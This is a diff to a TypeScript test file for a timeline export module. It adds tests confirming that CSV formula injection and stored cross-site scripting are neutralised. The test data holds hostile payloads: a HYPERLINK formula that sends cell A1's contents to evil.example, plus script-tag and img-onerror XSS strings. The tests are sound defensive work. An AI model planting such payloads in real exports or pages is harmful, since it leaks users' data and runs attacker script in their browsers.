@@ -1,4 +1,12 @@
-import { csvRow, escapeHtml, headlineOf, htmlTextOf, timelineJsEvent } from './timeline-export.js';
+import {
+  csvCell,
+  csvRow,
+  escapeHtml,
+  headlineHtmlOf,
+  headlineOf,
+  htmlTextOf,
+  timelineJsEvent,
+} from './timeline-export.js';
 import type { StatementView } from './types.js';
 
 const view = (fields: Partial<StatementView> = {}): StatementView => ({
@@ -59,5 +67,46 @@ describe('timeline export formatting', () => {
     expect(headlineOf(view({ speakerCountry: undefined, targets: [], kind: 'REJECT' }))).toBe(
       'Wang Yi: Rejection',
     );
+  });
+
+  it('neutralises every CSV cell a spreadsheet would read as a formula (OWASP), and quotes it', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']) {
+      const cell = `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
+      const encoded = csvCell(cell);
+      expect(encoded.startsWith(`"'${start}`)).toBe(true);
+      expect(encoded).toBe(`"'${cell.replaceAll('"', '""')}"`);
+    }
+    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
+    expect(csvCell('2019')).toBe('2019');
+    expect(csvCell('a=b')).toBe('a=b');
+    expect(csvCell(' =1')).toBe(' =1');
+    expect(csvRow(['@SUM(A1:A9)', 'ok', '-2+3'])).toBe(`"'@SUM(A1:A9)",ok,"'-2+3"\r\n`);
+  });
+
+  it('escapes stored markup in every text field of a TimelineJS event', () => {
+    const hostile = view({
+      speaker: { name: '<a href="https://evil.example" style="position:fixed;inset:0">x</a>', country: 'CN' },
+      text: '</script><script>alert(1)</script>',
+      sources: [
+        {
+          url: 'https://example.org/"><img src=x onerror=alert(1)>',
+          outlet: '"><img src=x onerror=alert(2)>',
+        },
+      ],
+    });
+    const event = timelineJsEvent(hostile);
+    const texts = [event.text.headline, event.text.text, event.group ?? ''];
+    // the only elements are the ones the export writes itself: no stored tag survives as markup
+    const tags = texts.flatMap((text) => [...text.matchAll(/<([a-z]+)/gi)].map((m) => m[1]));
+    expect(new Set(tags)).toEqual(new Set(['p', 'em', 'a']));
+    expect(event.text.text.match(/<a /g)).toHaveLength(1); // the source link, its URL escaped in the attribute
+    expect(event.text.text).toContain(
+      'href="https://example.org/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"',
+    );
+    expect(event.text.headline).toBe(
+      '&lt;a href=&quot;https://evil.example&quot; style=&quot;position:fixed;inset:0&quot;&gt;x&lt;/a&gt; (CN) to TR: Appeal',
+    );
+    expect(headlineHtmlOf(hostile)).toBe(event.text.headline);
+    expect(event.text.text).toContain('&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
   });
 });
